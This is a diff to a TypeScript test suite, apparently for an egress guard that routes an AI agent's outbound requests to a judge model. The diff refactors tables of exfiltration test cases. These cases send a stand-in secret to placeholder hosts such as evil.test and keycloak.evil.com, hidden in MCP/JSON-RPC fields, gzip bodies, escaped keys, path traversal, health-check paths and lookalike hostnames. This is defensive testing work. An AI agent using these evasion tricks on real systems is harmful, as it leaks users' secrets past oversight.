@@ -139,6 +139,8 @@ const grpcCall = (host: string): Asked => ({
 type Row = readonly [name: string, asked: Asked]
 /** The third is what the judge is shown where that is not the loot itself. */
 type AttackRow = readonly [name: string, asked: Asked, shown?: string]
+const attacks = (rows: readonly AttackRow[]): [string, Asked, string][] =>
+  rows.map(([name, asked, shown = LOOT]) => [name, asked, shown])
 
 const rpc = (method: string, params?: object, more: object = { id: 1 }) =>
   JSON.stringify({ jsonrpc: '2.0', method, ...(params === undefined ? {} : { params }), ...more })
@@ -156,11 +158,13 @@ describe('where hosts decide where bytes go', () => {
 
   describe('a: the mark of the judge’s own questions', () => {
     const MARK = { ...PLAIN, 'x-ibac-judge': '1' }
-    test.each<AttackRow>([
-      ['to another host', post('evil.test', '/collect', LOOT, MARK)],
-      ['to the judge’s path on another host', post('evil.test', '/v1/chat/completions', chatRequest(LOOT), MARK)],
-      ['on a request without body', get('evil.test', `/collect/${LOOT}`, { 'x-ibac-judge': '1' })],
-    ])('%s', (_, asked, shown) => expectJudged(agent(), asked, shown))
+    test.each(
+      attacks([
+        ['to another host', post('evil.test', '/collect', LOOT, MARK)],
+        ['to the judge’s path on another host', post('evil.test', '/v1/chat/completions', chatRequest(LOOT), MARK)],
+        ['on a request without body', get('evil.test', `/collect/${LOOT}`, { 'x-ibac-judge': '1' })],
+      ]),
+    )('%s', (_, asked, shown) => expectJudged(agent(), asked, shown))
 
     test('counts on the way to the judge’s own endpoint, and on no other way to it', async () => {
       judge.judge(deny)
@@ -192,27 +196,29 @@ describe('where hosts decide where bytes go', () => {
     const filler = 'a'.repeat(4096)
     const who = { name: 'agent', version: '1' }
     const hello = { protocolVersion: '2025-11-25', capabilities: {}, clientInfo: who }
-    test.each<AttackRow>([
-      ['an unknown parameter', TOOLS(rpc('tools/list', { cursor: 'c', note: LOOT }))],
-      ['a parameter where there is none', TOOLS(rpc('ping', { note: LOOT }))],
-      ['a client with more to say', TOOLS(rpc('initialize', { ...hello, clientInfo: { ...who, note: LOOT } }))],
-      ['free capabilities over 4 KiB', TOOLS(rpc('initialize', { ...hello, capabilities: { [LOOT]: filler } }))],
-      ['a cursor over 4 KiB', TOOLS(rpc('tools/list', { cursor: `${LOOT} ${filler}` }))],
-      ['a reason over 4 KiB', TOOLS(rpc('notifications/cancelled', { requestId: 1, reason: LOOT + filler }, {}))],
-      ['_meta with a key of its own', TOOLS(rpc('ping', { _meta: { note: LOOT } }))],
-      ['a member of the envelope', TOOLS(rpc('ping', undefined, { id: 1, note: LOOT }))],
-      [
-        'a notification that waits for an answer',
-        TOOLS(rpc('notifications/progress', { progressToken: LOOT, progress: 1 })),
-      ],
-      ['a request that waits for none', TOOLS(rpc('tools/list', { cursor: LOOT }, {}))],
-      ['as the body of a GET', { ...TOOLS(rpc('tools/list', { cursor: LOOT })), method: 'GET' }],
-      ['as the body of a DELETE', { ...TOOLS(rpc('tools/list', { cursor: LOOT })), method: 'DELETE' }],
-      ['as the body of a PUT', { ...TOOLS(rpc('tools/list', { cursor: LOOT })), method: 'PUT' }],
-      ['a method that sounds like it', TOOLS(rpc('tools/list/all', { note: LOOT }))],
-      ['a method in another case', TOOLS(rpc('Tools/List', { cursor: LOOT }))],
-      ['another notification', TOOLS(rpc('notifications/note', { text: LOOT }, {}))],
-    ])('%s', (_, asked, shown) => expectJudged(agent(), asked, shown))
+    test.each(
+      attacks([
+        ['an unknown parameter', TOOLS(rpc('tools/list', { cursor: 'c', note: LOOT }))],
+        ['a parameter where there is none', TOOLS(rpc('ping', { note: LOOT }))],
+        ['a client with more to say', TOOLS(rpc('initialize', { ...hello, clientInfo: { ...who, note: LOOT } }))],
+        ['free capabilities over 4 KiB', TOOLS(rpc('initialize', { ...hello, capabilities: { [LOOT]: filler } }))],
+        ['a cursor over 4 KiB', TOOLS(rpc('tools/list', { cursor: `${LOOT} ${filler}` }))],
+        ['a reason over 4 KiB', TOOLS(rpc('notifications/cancelled', { requestId: 1, reason: LOOT + filler }, {}))],
+        ['_meta with a key of its own', TOOLS(rpc('ping', { _meta: { note: LOOT } }))],
+        ['a member of the envelope', TOOLS(rpc('ping', undefined, { id: 1, note: LOOT }))],
+        [
+          'a notification that waits for an answer',
+          TOOLS(rpc('notifications/progress', { progressToken: LOOT, progress: 1 })),
+        ],
+        ['a request that waits for none', TOOLS(rpc('tools/list', { cursor: LOOT }, {}))],
+        ['as the body of a GET', { ...TOOLS(rpc('tools/list', { cursor: LOOT })), method: 'GET' }],
+        ['as the body of a DELETE', { ...TOOLS(rpc('tools/list', { cursor: LOOT })), method: 'DELETE' }],
+        ['as the body of a PUT', { ...TOOLS(rpc('tools/list', { cursor: LOOT })), method: 'PUT' }],
+        ['a method that sounds like it', TOOLS(rpc('tools/list/all', { note: LOOT }))],
+        ['a method in another case', TOOLS(rpc('Tools/List', { cursor: LOOT }))],
+        ['another notification', TOOLS(rpc('notifications/note', { text: LOOT }, {}))],
+      ]),
+    )('%s', (_, asked, shown) => expectJudged(agent(), asked, shown))
 
     test.each<Row>([
       ['initialize', TOOLS(rpc('initialize', { ...hello, capabilities: { roots: { listChanged: true } } }))],
@@ -224,21 +230,23 @@ describe('where hosts decide where bytes go', () => {
   })
 
   describe('c: a request without body on an MCP path', () => {
-    test.each<AttackRow>([
-      ['GET to a host that nobody spoke to', get('evil.test', '/mcp'), 'evil.test/mcp'],
-      [
-        'DELETE to a host that nobody spoke to',
-        { ...get('evil.test', '/mcp', SESSION), method: 'DELETE' },
-        'evil.test/mcp',
-      ],
-      ['a query at home', get('tools.test', `/mcp?q=${LOOT}`)],
-      ['a query beside sessionId', get('tools.test', `/sse?sessionId=1&q=${LOOT}`)],
-      ['a sessionId with something in it', get('tools.test', `/sse?sessionId=1%20${LOOT}`)],
-      ['a path below it', get('tools.test', `/mcp/${LOOT}`)],
-      ['DELETE without a session', { ...get('tools.test', '/mcp'), method: 'DELETE' }, 'tools.test/mcp'],
-      ['OPTIONS', { ...get('tools.test', '/mcp'), method: 'OPTIONS' }, 'tools.test/mcp'],
-      ['DELETE of another path', { ...get('tools.test', `/files/${LOOT}`, SESSION), method: 'DELETE' }],
-    ])('%s', (_, asked, shown) => expectJudged(agent(), asked, shown))
+    test.each(
+      attacks([
+        ['GET to a host that nobody spoke to', get('evil.test', '/mcp'), 'evil.test/mcp'],
+        [
+          'DELETE to a host that nobody spoke to',
+          { ...get('evil.test', '/mcp', SESSION), method: 'DELETE' },
+          'evil.test/mcp',
+        ],
+        ['a query at home', get('tools.test', `/mcp?q=${LOOT}`)],
+        ['a query beside sessionId', get('tools.test', `/sse?sessionId=1&q=${LOOT}`)],
+        ['a sessionId with something in it', get('tools.test', `/sse?sessionId=1%20${LOOT}`)],
+        ['a path below it', get('tools.test', `/mcp/${LOOT}`)],
+        ['DELETE without a session', { ...get('tools.test', '/mcp'), method: 'DELETE' }, 'tools.test/mcp'],
+        ['OPTIONS', { ...get('tools.test', '/mcp'), method: 'OPTIONS' }, 'tools.test/mcp'],
+        ['DELETE of another path', { ...get('tools.test', `/files/${LOOT}`, SESSION), method: 'DELETE' }],
+      ]),
+    )('%s', (_, asked, shown) => expectJudged(agent(), asked, shown))
 
     test.each<Row>([
       ['GET', get('tools.test', '/mcp', { accept: 'text/event-stream' })],
@@ -286,33 +294,41 @@ describe('where hosts decide where bytes go', () => {
 
   describe('d: a protocol away from its home', () => {
     const look = { role: 'user', content: `Look: ${LOOT}` }
-    test.each<AttackRow>([
-      ['MCP housekeeping', post('evil.test', '/mcp', rpc('tools/list', { cursor: LOOT }))],
-      [
-        'MCP housekeeping on a path that nobody configured',
-        post('evil.test', '/', rpc('tools/list', { cursor: LOOT })),
-      ],
-      ['MCP housekeeping on the model’s host', post('llm.test', '/mcp', rpc('tools/list', { cursor: LOOT }))],
-      ['an A2A poll', post('evil.test', '/', rpc('tasks/get', { id: LOOT }))],
-      [
-        'an A2A poll, newer',
-        post('evil.test', '/', rpc('GetTask', { id: LOOT }), { ...MCP_HEADERS, 'a2a-version': '1.0' }),
-      ],
-      [
-        'a question to a model',
-        post('evil.test', '/v1/chat/completions', JSON.stringify({ model: 'm', messages: [look] })),
-      ],
-      ['a question to a model, by its keys', post('evil.test', '/x', JSON.stringify({ model: 'm', messages: [look] }))],
-      ['a question to a model on the tools’ host', post('tools.test', '/v1/chat/completions', chatRequest(LOOT))],
-      ['embeddings', post('evil.test', '/v1/embeddings', JSON.stringify({ model: 'm', input: LOOT }))],
-      ['a host that begins like the model’s', post('model.test.evil.test', '/v1/chat/completions', chatRequest(LOOT))],
-      ['a host that ends like the model’s', post('xmodel.test', '/v1/chat/completions', chatRequest(LOOT))],
-      ['no JSON at the model’s home', post('llm.test', '/v1/files', LOOT, PLAIN)],
-      [
-        'plain HTTP at the tools’ home',
-        post('tools.test', '/token', `code=${LOOT}`, { 'content-type': 'application/x-www-form-urlencoded' }),
-      ],
-    ])('%s', (_, asked, shown) => expectJudged(agent(), asked, shown))
+    test.each(
+      attacks([
+        ['MCP housekeeping', post('evil.test', '/mcp', rpc('tools/list', { cursor: LOOT }))],
+        [
+          'MCP housekeeping on a path that nobody configured',
+          post('evil.test', '/', rpc('tools/list', { cursor: LOOT })),
+        ],
+        ['MCP housekeeping on the model’s host', post('llm.test', '/mcp', rpc('tools/list', { cursor: LOOT }))],
+        ['an A2A poll', post('evil.test', '/', rpc('tasks/get', { id: LOOT }))],
+        [
+          'an A2A poll, newer',
+          post('evil.test', '/', rpc('GetTask', { id: LOOT }), { ...MCP_HEADERS, 'a2a-version': '1.0' }),
+        ],
+        [
+          'a question to a model',
+          post('evil.test', '/v1/chat/completions', JSON.stringify({ model: 'm', messages: [look] })),
+        ],
+        [
+          'a question to a model, by its keys',
+          post('evil.test', '/x', JSON.stringify({ model: 'm', messages: [look] })),
+        ],
+        ['a question to a model on the tools’ host', post('tools.test', '/v1/chat/completions', chatRequest(LOOT))],
+        ['embeddings', post('evil.test', '/v1/embeddings', JSON.stringify({ model: 'm', input: LOOT }))],
+        [
+          'a host that begins like the model’s',
+          post('model.test.evil.test', '/v1/chat/completions', chatRequest(LOOT)),
+        ],
+        ['a host that ends like the model’s', post('xmodel.test', '/v1/chat/completions', chatRequest(LOOT))],
+        ['no JSON at the model’s home', post('llm.test', '/v1/files', LOOT, PLAIN)],
+        [
+          'plain HTTP at the tools’ home',
+          post('tools.test', '/token', `code=${LOOT}`, { 'content-type': 'application/x-www-form-urlencoded' }),
+        ],
+      ]),
+    )('%s', (_, asked, shown) => expectJudged(agent(), asked, shown))
 
     test.each<readonly [string, Asked, string]>([
       ['a question to a model', post('llm.test', '/v1/chat/completions', chatRequest('hello')), 'inference_bypass'],
@@ -346,24 +362,26 @@ describe('where hosts decide where bytes go', () => {
   })
 
   describe('e: a path that nobody looks at', () => {
-    test.each<AttackRow>([
-      ['with a body', post('evil.test', '/healthz', LOOT, PLAIN)],
-      ['with the body of a GET', { ...post('evil.test', '/healthz', LOOT, PLAIN), method: 'GET' }],
-      ['with an empty body', post('evil.test', '/healthz', ''), 'evil.test/healthz'],
-      ['with a query', get('evil.test', `/healthz?q=${LOOT}`)],
-      ['with another method', { ...get('evil.test', '/readyz'), method: 'DELETE' }, 'evil.test/readyz'],
-      ['something below it', get('evil.test', `/livez/${LOOT}`)],
-      ['parameters of the path', get('evil.test', `/healthz;q=${LOOT}`)],
-      ['escapes in the query’s place', get('evil.test', `/healthz%3Fq=${LOOT}`)],
-      ['another case', get('evil.test', '/Healthz'), '/Healthz'],
-      ['a way round', get('evil.test', `/healthz/../${LOOT}`)],
-      ['an escaped way round', get('evil.test', `/healthz/%2e%2e/${LOOT}`)],
-      ['another well-known name', get('evil.test', `/.well-known/${LOOT}`)],
-      ['below a well-known name', get('evil.test', `/.well-known/agent-card.json/${LOOT}`)],
-      ['a resource that nobody configured', get('evil.test', `/.well-known/oauth-protected-resource/${LOOT}`)],
-      ['a query to a well-known name', get('evil.test', `/.well-known/openid-configuration?q=${LOOT}`)],
-      ['a body to a well-known name', post('evil.test', '/.well-known/agent.json', LOOT, PLAIN)],
-    ])('%s', (_, asked, shown) => expectJudged(agent(), asked, shown))
+    test.each(
+      attacks([
+        ['with a body', post('evil.test', '/healthz', LOOT, PLAIN)],
+        ['with the body of a GET', { ...post('evil.test', '/healthz', LOOT, PLAIN), method: 'GET' }],
+        ['with an empty body', post('evil.test', '/healthz', ''), 'evil.test/healthz'],
+        ['with a query', get('evil.test', `/healthz?q=${LOOT}`)],
+        ['with another method', { ...get('evil.test', '/readyz'), method: 'DELETE' }, 'evil.test/readyz'],
+        ['something below it', get('evil.test', `/livez/${LOOT}`)],
+        ['parameters of the path', get('evil.test', `/healthz;q=${LOOT}`)],
+        ['escapes in the query’s place', get('evil.test', `/healthz%3Fq=${LOOT}`)],
+        ['another case', get('evil.test', '/Healthz'), '/Healthz'],
+        ['a way round', get('evil.test', `/healthz/../${LOOT}`)],
+        ['an escaped way round', get('evil.test', `/healthz/%2e%2e/${LOOT}`)],
+        ['another well-known name', get('evil.test', `/.well-known/${LOOT}`)],
+        ['below a well-known name', get('evil.test', `/.well-known/agent-card.json/${LOOT}`)],
+        ['a resource that nobody configured', get('evil.test', `/.well-known/oauth-protected-resource/${LOOT}`)],
+        ['a query to a well-known name', get('evil.test', `/.well-known/openid-configuration?q=${LOOT}`)],
+        ['a body to a well-known name', post('evil.test', '/.well-known/agent.json', LOOT, PLAIN)],
+      ]),
+    )('%s', (_, asked, shown) => expectJudged(agent(), asked, shown))
 
     test.each(
       ['/healthz', '/readyz', '/livez', '/.well-known/agent.json', '/.well-known/agent-card.json']
@@ -373,16 +391,24 @@ describe('where hosts decide where bytes go', () => {
   })
 
   describe('f, g: a host that is called like one of the control plane', () => {
-    test.each<AttackRow>(
-      [
-        'keycloak.evil.com',
-        'keycloak.evil.com:8080',
-        'KEYCLOAK.Evil.COM',
-        'keycloak.evil.com.',
-        'Keycloak.evil.com.:443',
-      ]
-        .concat('otel-collector.github.io', 'spire-agent.evil.net', 'prometheus.dev', 'jaeger.co.uk', 'xkeycloak.corp')
-        .map((host) => [host, post(host, '/realms', LOOT, PLAIN)] as const),
+    test.each(
+      attacks(
+        [
+          'keycloak.evil.com',
+          'keycloak.evil.com:8080',
+          'KEYCLOAK.Evil.COM',
+          'keycloak.evil.com.',
+          'Keycloak.evil.com.:443',
+        ]
+          .concat(
+            'otel-collector.github.io',
+            'spire-agent.evil.net',
+            'prometheus.dev',
+            'jaeger.co.uk',
+            'xkeycloak.corp',
+          )
+          .map((host) => [host, post(host, '/realms', LOOT, PLAIN)] as const),
+      ),
     )('%s', (_, asked, shown) => expectJudged(agent(), asked, shown))
 
     test.each(['keycloak', 'keycloak:8080', 'keycloak.corp', 'Keycloak.CORP.:8443', 'otel-collector.monitoring:4318'])(
@@ -399,31 +425,36 @@ describe('where hosts decide where bytes go', () => {
 
   describe('MCP messages that only sound like housekeeping', () => {
     const answer = (more: object) => TOOLS(JSON.stringify({ jsonrpc: '2.0', id: 1, ...more }))
-    test.each<AttackRow>([
-      ['an answer with content', answer({ result: { content: { type: 'text', text: LOOT } } })],
-      ['an error of more than 256 bytes', answer({ error: { code: 1, message: LOOT + 'a'.repeat(256) } })],
-      ['an empty answer with something beside it', answer({ result: {}, note: LOOT })],
-      ['an empty answer elsewhere', { ...answer({ result: {} }), host: 'evil.test' }, 'evil.test/mcp'],
-      [
-        'completion/complete',
-        TOOLS(
-          rpc('completion/complete', { ref: { type: 'ref/prompt', name: 'p' }, argument: { name: 'a', value: LOOT } }),
-        ),
-      ],
-      ['resources/subscribe', TOOLS(rpc('resources/subscribe', { uri: `mail:${LOOT}` }))],
-      [
-        'subscriptions/listen with URIs',
-        TOOLS(rpc('subscriptions/listen', { notifications: { resourceSubscriptions: [`mail:${LOOT}`] } })),
-      ],
-      ['tasks/update', TOOLS(rpc('tasks/update', { taskId: 't', inputResponses: { a: LOOT } }))],
-      ['tasks/get of no known task', TOOLS(rpc('tasks/get', { taskId: LOOT }))],
-      ['tasks/result of no known task', TOOLS(rpc('tasks/result', { taskId: LOOT }))],
-      ['tasks/cancel of no known task', TOOLS(rpc('tasks/cancel', { taskId: LOOT }))],
-      [
-        'a tool call that waits for no answer',
-        TOOLS(rpc('tools/call', { name: 'send', arguments: { code: LOOT } }, {})),
-      ],
-    ])('%s', (_, asked, shown) => expectJudged(agent(), asked, shown))
+    test.each(
+      attacks([
+        ['an answer with content', answer({ result: { content: { type: 'text', text: LOOT } } })],
+        ['an error of more than 256 bytes', answer({ error: { code: 1, message: LOOT + 'a'.repeat(256) } })],
+        ['an empty answer with something beside it', answer({ result: {}, note: LOOT })],
+        ['an empty answer elsewhere', { ...answer({ result: {} }), host: 'evil.test' }, 'evil.test/mcp'],
+        [
+          'completion/complete',
+          TOOLS(
+            rpc('completion/complete', {
+              ref: { type: 'ref/prompt', name: 'p' },
+              argument: { name: 'a', value: LOOT },
+            }),
+          ),
+        ],
+        ['resources/subscribe', TOOLS(rpc('resources/subscribe', { uri: `mail:${LOOT}` }))],
+        [
+          'subscriptions/listen with URIs',
+          TOOLS(rpc('subscriptions/listen', { notifications: { resourceSubscriptions: [`mail:${LOOT}`] } })),
+        ],
+        ['tasks/update', TOOLS(rpc('tasks/update', { taskId: 't', inputResponses: { a: LOOT } }))],
+        ['tasks/get of no known task', TOOLS(rpc('tasks/get', { taskId: LOOT }))],
+        ['tasks/result of no known task', TOOLS(rpc('tasks/result', { taskId: LOOT }))],
+        ['tasks/cancel of no known task', TOOLS(rpc('tasks/cancel', { taskId: LOOT }))],
+        [
+          'a tool call that waits for no answer',
+          TOOLS(rpc('tools/call', { name: 'send', arguments: { code: LOOT } }, {})),
+        ],
+      ]),
+    )('%s', (_, asked, shown) => expectJudged(agent(), asked, shown))
 
     test.each<Row>([
       ['an empty answer', answer({ result: {} })],
@@ -475,30 +506,32 @@ describe('where hosts decide where bytes go', () => {
   describe('a call that is spelled in another way, and read all the same', () => {
     const call = mcpCall('send', { code: LOOT })
     const typed = (type: string | undefined) => (type === undefined ? {} : { 'content-type': type })
-    test.each<AttackRow>([
-      ['called plain text', post('evil.test', '/x', call, PLAIN)],
-      ['called nothing', post('evil.test', '/x', call, {})],
-      ['called JSON in capitals', post('evil.test', '/x', call, typed('Application/JSON; Charset="UTF-8"'))],
-      ['called a form', post('evil.test', '/x', call, typed('application/x-www-form-urlencoded'))],
-      ['called multipart', post('evil.test', '/x', call, typed('multipart/form-data; boundary=x'))],
-      ['in gzip', post('evil.test', '/x', gzipSync(call), { ...MCP_HEADERS, 'content-encoding': 'gzip' })],
-      [
-        'in gzip twice',
-        post('evil.test', '/x', gzipSync(gzipSync(call)), { ...MCP_HEADERS, 'content-encoding': 'gzip, gzip' }),
-      ],
-      ['with escapes in its keys', post('evil.test', '/x', call.replace('"method"', '"\\u006dethod"'))],
-      ['with escapes in its method', post('evil.test', '/x', call.replace('tools/call', 'tools\\/\\u0063all'))],
-      ['after a megabyte of spaces', post('evil.test', '/x', ' '.repeat(1 << 20) + call)],
-      ['as the body of a GET', { ...post('evil.test', '/x', call), method: 'GET' }],
-      ['as an unknown verb', { ...post('evil.test', '/x', call), method: 'PROPFIND' }],
-      ['gzip that is not called gzip', post('evil.test', '/x', gzipSync(call), PLAIN), 'evil.test/x'],
-      [
-        'an encoding that nobody knows',
-        post('evil.test', '/x', gzipSync(call), { ...PLAIN, 'content-encoding': 'rot13' }),
-        'evil.test/x',
-      ],
-      ['lines of JSON', post('evil.test', '/x', `{"a":1}\n{"b":"${LOOT}"}`, PLAIN)],
-    ])('%s', (_, asked, shown) => expectJudged(agent(), asked, shown))
+    test.each(
+      attacks([
+        ['called plain text', post('evil.test', '/x', call, PLAIN)],
+        ['called nothing', post('evil.test', '/x', call, {})],
+        ['called JSON in capitals', post('evil.test', '/x', call, typed('Application/JSON; Charset="UTF-8"'))],
+        ['called a form', post('evil.test', '/x', call, typed('application/x-www-form-urlencoded'))],
+        ['called multipart', post('evil.test', '/x', call, typed('multipart/form-data; boundary=x'))],
+        ['in gzip', post('evil.test', '/x', gzipSync(call), { ...MCP_HEADERS, 'content-encoding': 'gzip' })],
+        [
+          'in gzip twice',
+          post('evil.test', '/x', gzipSync(gzipSync(call)), { ...MCP_HEADERS, 'content-encoding': 'gzip, gzip' }),
+        ],
+        ['with escapes in its keys', post('evil.test', '/x', call.replace('"method"', '"\\u006dethod"'))],
+        ['with escapes in its method', post('evil.test', '/x', call.replace('tools/call', 'tools\\/\\u0063all'))],
+        ['after a megabyte of spaces', post('evil.test', '/x', ' '.repeat(1 << 20) + call)],
+        ['as the body of a GET', { ...post('evil.test', '/x', call), method: 'GET' }],
+        ['as an unknown verb', { ...post('evil.test', '/x', call), method: 'PROPFIND' }],
+        ['gzip that is not called gzip', post('evil.test', '/x', gzipSync(call), PLAIN), 'evil.test/x'],
+        [
+          'an encoding that nobody knows',
+          post('evil.test', '/x', gzipSync(call), { ...PLAIN, 'content-encoding': 'rot13' }),
+          'evil.test/x',
+        ],
+        ['lines of JSON', post('evil.test', '/x', `{"a":1}\n{"b":"${LOOT}"}`, PLAIN)],
+      ]),
+    )('%s', (_, asked, shown) => expectJudged(agent(), asked, shown))
   })
 
   describe('a call that servers would read in two ways', () => {
@@ -618,14 +651,16 @@ describe('where nobody said that hosts decide where bytes go', () => {
     rendered.replace(/,\s*\{\s*"key": "x-plumbline-routing",\s*"value": "host"\s*\}/, '')
   const { agent } = useWorld(() => prepare(atHome, { changeEnvoy: unrouted }))
 
-  test.each<AttackRow>([
-    ['a host of the control plane', post('keycloak', '/realms', LOOT, PLAIN)],
-    ['the agent’s own model', post('model.test:11434', '/v1/chat/completions', chatRequest(LOOT))],
-    ['a question to a model at home', post('llm.test', '/v1/chat/completions', chatRequest(LOOT))],
-    ['MCP housekeeping at home', TOOLS(rpc('tools/list', { cursor: LOOT }))],
-    ['the stream of MCP at home', get('tools.test', '/mcp'), 'tools.test/mcp'],
-    ['an A2A poll at home', post('agents.test', '/', rpc('tasks/get', { id: LOOT }))],
-  ])('h: %s', (_, asked, shown) => expectJudged(agent(), asked, shown))
+  test.each(
+    attacks([
+      ['a host of the control plane', post('keycloak', '/realms', LOOT, PLAIN)],
+      ['the agent’s own model', post('model.test:11434', '/v1/chat/completions', chatRequest(LOOT))],
+      ['a question to a model at home', post('llm.test', '/v1/chat/completions', chatRequest(LOOT))],
+      ['MCP housekeeping at home', TOOLS(rpc('tools/list', { cursor: LOOT }))],
+      ['the stream of MCP at home', get('tools.test', '/mcp'), 'tools.test/mcp'],
+      ['an A2A poll at home', post('agents.test', '/', rpc('tasks/get', { id: LOOT }))],
+    ]),
+  )('h: %s', (_, asked, shown) => expectJudged(agent(), asked, shown))
 
   test('h: a stream after an allowed message', async () => {
     judge.judge(allow)
@@ -658,18 +693,20 @@ describe('where parsers know no hosts, and lists are the operator’s own', () =
   ]
   const { stage, agent } = useWorld(() => prepare(bare))
 
-  test.each<AttackRow>([
-    ['d: MCP housekeeping', TOOLS(rpc('tools/list', { cursor: LOOT }))],
-    ['d: the stream of MCP', get('refused.evil.test', '/mcp'), 'refused.evil.test/mcp'],
-    ['d: a question to a model', post('llm.test', '/v1/chat/completions', chatRequest(LOOT))],
-    ['e: a built-in path keeps its guard', post('evil.test', '/healthz', LOOT, PLAIN)],
-    ['e: a built-in path that was left out', get('evil.test', '/readyz'), 'evil.test/readyz'],
-    ['g: a star does not cross a slash', get('evil.test', `/status/a/${LOOT}`)],
-    ['g: a path that servers could read otherwise', get('evil.test', `/status/..;/${LOOT}`)],
-    ['f: a built-in host keeps its guard, in any spelling', post('keycloak.evil.com', '/x', LOOT, PLAIN)],
-    ['f: a built-in host that was left out', post('otel-collector.monitoring', '/x', LOOT, PLAIN)],
-    ['g: a host below the listed one', post('a.files.partner.com', '/x', LOOT, PLAIN)],
-  ])('%s', (_, asked, shown) => expectJudged(agent(), asked, shown))
+  test.each(
+    attacks([
+      ['d: MCP housekeeping', TOOLS(rpc('tools/list', { cursor: LOOT }))],
+      ['d: the stream of MCP', get('refused.evil.test', '/mcp'), 'refused.evil.test/mcp'],
+      ['d: a question to a model', post('llm.test', '/v1/chat/completions', chatRequest(LOOT))],
+      ['e: a built-in path keeps its guard', post('evil.test', '/healthz', LOOT, PLAIN)],
+      ['e: a built-in path that was left out', get('evil.test', '/readyz'), 'evil.test/readyz'],
+      ['g: a star does not cross a slash', get('evil.test', `/status/a/${LOOT}`)],
+      ['g: a path that servers could read otherwise', get('evil.test', `/status/..;/${LOOT}`)],
+      ['f: a built-in host keeps its guard, in any spelling', post('keycloak.evil.com', '/x', LOOT, PLAIN)],
+      ['f: a built-in host that was left out', post('otel-collector.monitoring', '/x', LOOT, PLAIN)],
+      ['g: a host below the listed one', post('a.files.partner.com', '/x', LOOT, PLAIN)],
+    ]),
+  )('%s', (_, asked, shown) => expectJudged(agent(), asked, shown))
 
   test.each<readonly [string, Asked, string]>([
     ['f: a built-in host', post('keycloak.corp', '/x', LOOT, PLAIN), 'host_bypass'],
